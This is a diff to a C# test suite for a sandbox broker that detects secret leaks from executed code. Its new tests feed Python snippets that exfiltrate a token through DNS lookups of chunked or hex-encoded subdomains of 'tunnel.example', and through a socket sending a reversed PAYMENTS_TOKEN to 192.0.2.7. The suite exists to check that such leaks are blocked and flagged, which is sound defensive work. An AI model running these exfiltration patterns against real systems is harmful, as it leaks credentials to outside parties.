@@ -77,20 +77,40 @@ public sealed class SecretFlowTests(BrokerHost broker) : IClassFixture<BrokerHos
     }
 
     // However the code came by it: here by its standard input, so that screening has nothing to say.
-    [Fact]
-    public async Task One_in_a_name_is_not_answered()
+    [Theory]
+    [InlineData("[token]")]
+    [InlineData("[token[at:at + 8] + '.tunnel.example' for at in range(0, len(token), 8)]")]
+    [InlineData("[token.encode().hex() + '.tunnel.example'] * 2")]
+    public async Task One_in_names_is_not_answered(string names)
     {
-        var answer = await RunAsync(BrokerHost.Hole, """
+        var answer = await RunAsync(BrokerHost.Hole, $$"""
             import socket
-            try:
-                print(socket.getaddrinfo(input(), 80))
-            except OSError as problem:
-                print(problem.errno)
+            token = input()
+            for name in {{names}}:
+                try:
+                    socket.getaddrinfo(name, 80)
+                    print("answered")
+                except OSError as problem:
+                    print(problem.errno)
             """, Token + "\n");
 
-        Assert.True(answer.Stdout == "-2\n", $"{answer}");
-        Assert.All(await SeenAsync(answer), seen => Assert.Equal("lookup", seen.Text("channel")));
+        Assert.True(answer.Stdout.EndsWith("-2\n", StringComparison.Ordinal), $"{answer}");
+        var seen = await SeenAsync(answer);
+        Assert.NotEmpty(seen);
+        Assert.All(seen, fact => Assert.Equal("lookup", fact.Text("channel")));
+        Assert.All(seen, fact => Assert.DoesNotContain(Token, fact.GetRawText(), StringComparison.OrdinalIgnoreCase));
         Assert.Contains("IG6005", RulesOf(answer));
+    }
+
+    [Fact]
+    public async Task What_an_earlier_cell_was_given_is_looked_for_in_later_ones()
+    {
+        await using var session = await SessionClient.OpenAsync(broker.Host, "python", new { profile = BrokerHost.Hole });
+        await session.RunAsync("import os, socket", env: Environment, stop: TestContext.Current.CancellationToken);
+
+        var answer = await session.RunAsync("with socket.create_connection(('192.0.2.7', 9000)) as s:\n    s.sendall(os.environ['PAYMENTS_TOKEN'][::-1].encode())", stop: TestContext.Current.CancellationToken);
+
+        Assert.Equal("reversed", Assert.Single(await SeenAsync(answer)).Text("encoding"));
     }
 
     [Fact]
